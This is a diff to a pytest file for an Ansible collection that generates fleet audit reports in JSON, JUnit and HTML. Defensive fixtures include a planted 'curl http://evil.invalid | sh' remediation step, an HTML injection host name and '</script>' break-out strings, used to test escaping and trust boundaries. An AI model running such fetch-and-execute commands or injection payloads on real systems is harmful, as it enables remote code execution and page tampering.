@@ -5,7 +5,9 @@ import pytest
 
 from ansible_collections.homelab.postmortem.plugins.module_utils import registry
 from ansible_collections.homelab.postmortem.plugins.plugin_utils import report
-from ansible_collections.homelab.postmortem.plugins.plugin_utils import report_encoding, report_files, report_html, report_junit, report_summary
+from ansible_collections.homelab.postmortem.plugins.plugin_utils import report_encoding, report_files, report_gate, report_html, report_summary
+
+from ...helpers.report import host_entry, open_block, render_html, to_json, to_junit
 
 CHECKS = [('pi_ir_tx', 'Pi IR'), ('llama_sleep_race', 'Sleep race')]
 
@@ -55,13 +57,13 @@ def test_host_states_and_totals(fleet):
     ('not_applicable', False, 4),
 ])
 def test_threshold(fleet, fail_on, unaudited, hits):
-    found = report.threshold_reached(fleet, fail_on, unaudited)
+    found = report_gate.Policy(fail_on, unaudited).hits(fleet)
     assert len(found) == hits
     assert sum(1 for h in found if h.endswith('(not audited)')) == (3 if unaudited and fail_on != 'never' else 0)
 
 
 def test_junit_maps_statuses(fleet):
-    root = ET.fromstring(report_junit.to_junit(fleet))
+    root = ET.fromstring(to_junit(fleet))
     assert root.get('tests') == '10'
     assert root.get('failures') == '2'
     assert root.get('errors') == '6'  # 3 hosts x 2 checks
@@ -112,32 +114,32 @@ def test_nothing_audited_is_a_report_of_its_own():
     assert empty['nothing_audited'] == "no host matched 'web*' in /srv/inv.yml" and empty['hosts'] == []
     lines = report_summary.summary_lines(empty, {'json': '/r/postmortem.json'})
     assert "NOTHING WAS AUDITED: no host matched 'web*' in /srv/inv.yml." in lines
-    assert report_summary.gate_lines(empty, 'never', True, True, []) == ['Gate: FAILED: nothing was audited (postmortem_fail_on_no_hosts: true).']
-    assert json.loads(report.to_json(empty))['nothing_audited'].startswith('no host matched')
-    junit = ET.fromstring(report_junit.to_junit(empty))
+    assert report_gate.Policy('never', True, True).line(empty, []) == 'Gate: FAILED: nothing was audited (postmortem_fail_on_no_hosts: true).'
+    assert json.loads(to_json(empty))['nothing_audited'].startswith('no host matched')
+    junit = ET.fromstring(to_junit(empty))
     assert junit.get('errors') == '1' and junit.find('.//error').get('type') == 'nothing_audited'
-    assert 'NOTHING WAS AUDITED' in report.render_html(empty)
+    assert 'NOTHING WAS AUDITED' in render_html(empty)
     limited = report.build([], {}, CHECKS, '0.2.0', scope=dict(scope, limit='db1'))
     assert limited['nothing_audited'].endswith('with --limit db1')
 
 
 @pytest.mark.parametrize('fail_on,expected', [
     ('never', 'Gate: off (postmortem_fail_on: never); at_risk would fail it: 2 finding(s), 3 unaudited host(s).'),
-    ('affected', 'Gate: FAILED: 1 finding(s) at or above affected and 3 host(s) not audited.'),
+    ('affected', 'Gate: FAILED: 1 finding(s) at or above affected and 3 host(s) that could not be audited.'),
 ])
 def test_the_gate_says_what_it_decided_or_would_have(fleet, fail_on, expected):
-    hits = report.threshold_reached(fleet, fail_on, True)
-    assert report_summary.gate_lines(fleet, fail_on, True, True, hits) == [expected]
+    hits = report_gate.Policy(fail_on, True).hits(fleet)
+    assert report_gate.Policy(fail_on, True, True).line(fleet, hits) == expected
 
 
 def embedded(page, element_id):
     start = page.index('id="%s">' % element_id) + len('id="%s">' % element_id)
     text = page[start:page.index('</script>', start)]
-    return report_html.open_block(text) if element_id.startswith('chunk-') else json.loads(text)
+    return open_block(text) if element_id.startswith('chunk-') else json.loads(text)
 
 
 def test_html_embeds_data_that_cannot_break_out_of_the_script(fleet):
-    page = report.render_html(fleet)
+    page = render_html(fleet)
     assert '</script><b>' not in page
     index = embedded(page, 'report-index')
     assert [h['n'] for h in index['hosts']] == [h['name'] for h in fleet['hosts']]
@@ -153,7 +155,7 @@ def test_html_for_ten_thousand_hosts_parses_an_index_not_the_evidence():
     hosts = ['h%05d' % i for i in range(10000)]
     results = dict((h, audited(pi_ir_tx=finding('pi_ir_tx', 'affected' if i % 50 == 0 else 'ok')))
                    for i, h in enumerate(hosts))
-    page = report.render_html(report.build(hosts, results, CHECKS, '0.2.0'))
+    page = render_html(report.build(hosts, results, CHECKS, '0.2.0'))
     index_text = page[page.index('id="report-index">'):page.index('</script>', page.index('id="report-index">'))]
     assert len(index_text) < 60 * 10000  # a few dozen bytes per host
     assert page.count('type="application/gzip+base64" id="chunk-') == 50
@@ -171,7 +173,7 @@ def test_write_is_atomic_and_complete(tmp_path, fleet):
 def test_nothing_needs_attention_is_said():
     healthy = report.build(['pi1'], {'pi1': audited(pi_ir_tx=finding('pi_ir_tx', 'ok'))}, CHECKS, '0.1.0')
     assert 'Nothing needs attention.' in report_summary.summary_lines(healthy, {})
-    assert report_summary.gate_lines(healthy, 'never', True, True, []) == ['Gate: off (postmortem_fail_on: never).']
+    assert report_gate.Policy('never', True, True).line(healthy, []) == 'Gate: off (postmortem_fail_on: never).'
 
 
 def test_fix_text_is_the_registrys_whatever_the_host_says():
@@ -207,10 +209,10 @@ def test_failed_host_reasons_keep_the_cause_on_one_line():
                                 '  File "<frozen zipimport>", line 259, in load_module\r\n'
                                 'SyntaxError: future feature annotations is not defined\r\n'
                                 'Shared connection to old-pi closed.\r\n')}
-    entry = report.host_entry('old-pi', result)
+    entry = host_entry('old-pi', result)
     assert entry['reason'] == ('MODULE FAILURE See stdout/stderr for the exact error (module stderr: SyntaxError: '
                                'future feature annotations is not defined)')
-    unreachable = report.host_entry('dead', {'unreachable': True, 'msg': 'Failed to connect\r\n  to the host\r\n'})
+    unreachable = host_entry('dead', {'unreachable': True, 'msg': 'Failed to connect\r\n  to the host\r\n'})
     assert unreachable['reason'] == 'Failed to connect to the host'
 
 
@@ -226,7 +228,7 @@ def test_one_malformed_host_result_is_that_hosts_error_only(facts, reason):
     bad = fleet['hosts'][0]
     assert (bad['state'], bad['reason']) == ('failed', reason)
     assert fleet['hosts'][1]['state'] == 'audited'
-    ET.fromstring(report_junit.to_junit(fleet))
+    ET.fromstring(to_junit(fleet))
     report_summary.summary_lines(fleet, {})
 
 
@@ -269,7 +271,7 @@ def test_every_host_failing_every_check_still_fits_a_screen():
                              'notes': [{'role': 'homelab.postmortem.pi_ir_tx', 'note': 'n' * 500}] * 20}
     built = report.build(list(results), results, checks, '0.2.0', before=before, remediation=remediation)
     lines = report_summary.summary_lines(built, {'html': '/r/postmortem.html', 'json': '/r/j', 'junit': '/r/x'})
-    lines += report_summary.gate_lines(built, 'never', True, True, [])
+    lines.append(report_gate.Policy('never', True, True).line(built, []))
     assert len(lines) <= 60, len(lines)
     assert max(len(line) for line in lines if not is_path_line(line)) <= 100
 
@@ -280,7 +282,7 @@ def test_a_failed_module_is_summarised_by_its_cause_not_its_last_line():
               'module_stderr': ("pyenv: python3.13: command not found\n\nThe `python3.13' command exists in these Python "
                                 "versions:\n  3.13.0\n\nNote: See 'pyenv help global' for tips on allowing both\n"
                                 "      python2 and python3 to be found at the same time.\n")}
-    reason = report.host_entry('pi', result)['reason']
+    reason = host_entry('pi', result)['reason']
     assert reason.startswith('no working Python: pyenv: python3.13: command not found; tried the interpreter Ansible chose; ')
     assert reason.endswith('; module stderr: pyenv: python3.13: command not found / The `python3.13\' command exists in '
                            'these Python versions: / 3.13.0 / Note: See \'pyenv help global\' for tips on allowing both / '
@@ -304,25 +306,25 @@ NO_FILE = {
 
 
 def test_a_module_that_could_not_start_names_the_interpreter_and_the_cure():
-    shim = report.host_entry('laptop', PYENV_SHIM)['reason']
+    shim = host_entry('laptop', PYENV_SHIM)['reason']
     assert shim.startswith('no working Python: pyenv: python3.13: command not found; tried '
                            '/home/op/.pyenv/shims/python3.13 (discovered); set ansible_python_interpreter, e.g. '
                            '-e ansible_python_interpreter=/usr/bin/python3, or in the inventory as the repository\'s '
                            'inventory/localhost.yml does. '), shim
     assert 'Ansible: Module result deserialization failed: No start of json char found; module stderr: pyenv: ' in shim
-    missing = report.host_entry('pi', NO_FILE, interpreter='/nonexistent/python3')['reason']
+    missing = host_entry('pi', NO_FILE, interpreter='/nonexistent/python3')['reason']
     assert missing.startswith('no working Python: /bin/sh: 1: /nonexistent/python3: not found; tried /nonexistent/python3 '
                               '(ansible_python_interpreter); set ansible_python_interpreter, '), missing
     # Discovery's pick is what ran, whatever the inventory said before discovery was asked.
-    assert 'tried /home/op/.pyenv/shims/python3.13 (discovered)' in report.host_entry('l', PYENV_SHIM, interpreter='auto')['reason']
+    assert 'tried /home/op/.pyenv/shims/python3.13 (discovered)' in host_entry('l', PYENV_SHIM, interpreter='auto')['reason']
 
 
 def test_a_python_that_started_and_failed_is_not_an_interpreter_problem():
     """A traceback means Python ran (the SyntaxError of a too old one above); a module's own failure
     (fail_json: no module_stderr, no rc 127) keeps its message."""
     traceback = {'failed': True, 'rc': 1, 'msg': 'MODULE FAILURE', 'module_stderr': 'Traceback (most recent call last):\nOSError: x\n'}
-    assert report.host_entry('a', traceback)['reason'] == 'MODULE FAILURE (module stderr: OSError: x)'
-    assert report.host_entry('b', {'failed': True, 'msg': 'root /card does not exist on this host'})['reason'] == (
+    assert host_entry('a', traceback)['reason'] == 'MODULE FAILURE (module stderr: OSError: x)'
+    assert host_entry('b', {'failed': True, 'msg': 'root /card does not exist on this host'})['reason'] == (
         'root /card does not exist on this host')
 
 
@@ -387,9 +389,9 @@ def hostile_fleet():
 
 def test_the_json_file_is_json_dumps_of_the_report(hostile_fleet):
     expected = json.dumps(hostile_fleet, separators=(',', ':'), ensure_ascii=False)
-    assert report.to_json(hostile_fleet) == expected
+    assert to_json(hostile_fleet) == expected
     # A report that lost the texts build() made (a copy) is written the same.
-    assert report.to_json(dict(hostile_fleet)) == expected
+    assert to_json(dict(hostile_fleet)) == expected
     loaded = json.loads(expected)
     assert loaded['hosts'][0]['findings']['pi_ir_tx']['evidence']['number_keys'] == {'1': 'one'}
     assert loaded['hosts'][1]['findings']['pi_ir_tx']['evidence'] == {'v': 'nan'}
@@ -398,7 +400,7 @@ def test_the_json_file_is_json_dumps_of_the_report(hostile_fleet):
 
 
 def test_junit_carries_hostile_text_as_xml_can(hostile_fleet):
-    root = ET.fromstring(report_junit.to_junit(hostile_fleet))
+    root = ET.fromstring(to_junit(hostile_fleet))
     failure = root.find("./testsuite[@name='strict']/testcase[@name='pi_ir_tx']/failure")
     assert failure.get('message') == 'affected: IR "broken" <now>\n\\x01'
     assert json.loads(failure.text)['evidence']['markup'] == HOSTILE['markup']
@@ -410,10 +412,10 @@ def test_junit_carries_hostile_text_as_xml_can(hostile_fleet):
 
 
 def test_html_blocks_hold_the_same_findings(hostile_fleet):
-    page = report.render_html(hostile_fleet)
+    page = render_html(hostile_fleet)
     assert '</script><!--' not in page
     findings = embedded(page, 'chunk-0')
-    for host in json.loads(report.to_json(hostile_fleet))['hosts']:
+    for host in json.loads(to_json(hostile_fleet))['hosts']:
         assert findings[host['name']] == host['findings']
 
 
@@ -440,7 +442,7 @@ def test_failed_and_skipped_remediation_is_named():
     assert lines[0] == 'Remediation: 1 finding(s) fixed, 2 still open, 0 new'
     assert "  pi2: remediation FAILED in 'Apply the overlay fix': could not replace /boot: Read-only" in lines
     assert '  pi3: remediation not run: not touched: the run stopped after pi2 failed in an earlier batch' in lines
-    assert json.loads(report.to_json(built))['hosts'][1]['remediation']['state'] == 'failed'
+    assert json.loads(to_json(built))['hosts'][1]['remediation']['state'] == 'failed'
     odd = report.build(['pi1'], after, CHECKS, '0.2.0', remediation={'pi1': ['not', 'a', 'mapping']})
     assert odd['hosts'][0]['remediation'] == {'state': 'unknown', 'reason': 'the remediation record is list, not a mapping'}
 
@@ -449,7 +451,7 @@ def test_the_page_index_carries_what_a_remediation_left_undone():
     after = {'pi1': audited(pi_ir_tx=finding('pi_ir_tx', 'ok')), 'pi2': audited(pi_ir_tx=finding('pi_ir_tx', 'at_risk'))}
     built = report.build(['pi1', 'pi2'], after, CHECKS, '0.2.0', before=after,
                          remediation={'pi1': {'state': 'fixed'}, 'pi2': {'state': 'failed', 'task': 'T', 'reason': 'EROFS </script>'}})
-    page = report.render_html(built)
+    page = render_html(built)
     hosts = embedded(page, 'report-index')['hosts']
     assert 'm' not in hosts[0] and hosts[1]['m'] == {'s': 'failed', 'r': 'EROFS </script>', 't': 'T'}
     assert 'EROFS </script>' not in page
@@ -466,7 +468,7 @@ def test_html_offers_the_registrys_fix_never_the_hosts(hostile_fleet):
     advice = {'role': 'evil.collection.takeover', 'vars': {'become_pwn': True}, 'module': 'evil.mod',
               'manual': ['curl http://evil.invalid | sh'], 'disruption': 'none'}
     hostile = dict(finding('pi_ir_tx', 'affected', 'IR broken'), remediation=advice)
-    page = report.render_html(report.build(['pi1'], {'pi1': audited(pi_ir_tx=hostile)}, CHECKS, '0.2.0'))
+    page = render_html(report.build(['pi1'], {'pi1': audited(pi_ir_tx=hostile)}, CHECKS, '0.2.0'))
     fix = [c for c in embedded(page, 'report-index')['checks'] if c['id'] == 'pi_ir_tx'][0]['fix']
     assert fix == json.loads(json.dumps(registry.BY_ID['pi_ir_tx'].REMEDIATION))
     assert fix['role'] == 'homelab.postmortem.pi_ir_tx'
@@ -477,14 +479,14 @@ def test_html_offers_the_registrys_fix_never_the_hosts(hostile_fleet):
 
 
 def test_html_without_javascript_has_the_totals_and_the_worst_hosts_escaped(hostile_fleet):
-    page = static_part(report.render_html(hostile_fleet))
+    page = static_part(render_html(hostile_fleet))
     assert '<span data-total="affected">affected: 2</span>' in page and '<span data-total="unreachable">unreachable: 1</span>' in page
     rows = page[page.index('<section id="worst">'):page.index('</section>', page.index('<section id="worst">'))]
     assert rows.count('<tr data-host=') == 4  # strict, nan, surrogate and dead need attention; set is ok
     assert 'IR &quot;broken&quot; &lt;now&gt;' in rows and 'gone &amp; &lt;away&gt;' in rows
     assert '<now>' not in page and '<away>' not in page
     # Escaped as attribute values too: a host name cannot open a tag or end the attribute.
-    named = report.render_html(report.build(['"><img src=x>'], {'"><img src=x>': audited(
+    named = render_html(report.build(['"><img src=x>'], {'"><img src=x>': audited(
         pi_ir_tx=finding('pi_ir_tx', 'affected'))}, CHECKS, '0.2.0'))
     assert '<img' not in static_part(named) and 'data-host="&quot;&gt;&lt;img src=x&gt;"' in static_part(named)
 
@@ -493,7 +495,7 @@ def test_html_without_javascript_stays_bounded_at_ten_thousand_hosts():
     hosts = ['h%05d' % i for i in range(10000)]
     results = dict((h, audited(pi_ir_tx=finding('pi_ir_tx', 'affected', 'x' * 5000), llama_sleep_race=finding(
         'llama_sleep_race', 'unknown' if i % 2 else 'ok', 'y' * 5000))) for i, h in enumerate(hosts))
-    page = static_part(report.render_html(report.build(hosts, results, CHECKS, '0.2.0')))
+    page = static_part(render_html(report.build(hosts, results, CHECKS, '0.2.0')))
     assert page.count('<tr data-host=') == report_html.WORST_HOSTS == 100
     assert '10000 host(s) need attention, the worst 100 shown' in page
     assert len(page) < 60000, len(page)  # summaries of 5,000 characters are cut to WORST_TEXT
@@ -509,7 +511,7 @@ def test_the_roles_notes_reach_the_report_and_the_summary():
     remediation = {'pi1': {'state': 'ran', 'notes': [{'role': pi, 'note': no_trial}]},
                    'pi2': {'state': 'ran', 'notes': [{'role': pi, 'note': 'n%d' % i} for i in range(4)] + ['odd', {'role': 1, 'note': 'x'}]}}
     built = report.build(['pi1', 'pi2'], after, CHECKS, '0.2.0', before=after, remediation=remediation)
-    assert json.loads(report.to_json(built))['hosts'][0]['remediation']['notes'] == [{'role': pi, 'note': no_trial}]
+    assert json.loads(to_json(built))['hosts'][0]['remediation']['notes'] == [{'role': pi, 'note': no_trial}]
     assert [n['note'] for n in built['hosts'][1]['remediation']['notes']] == ['n0', 'n1', 'n2', 'n3']
     lines = terminal.visible_lines(report_summary.remediation_lines(built))
     assert '  pi1: pi_ir_tx: No trial boot, config.txt is changed directly: board pi3\\x1b[2J.' in lines
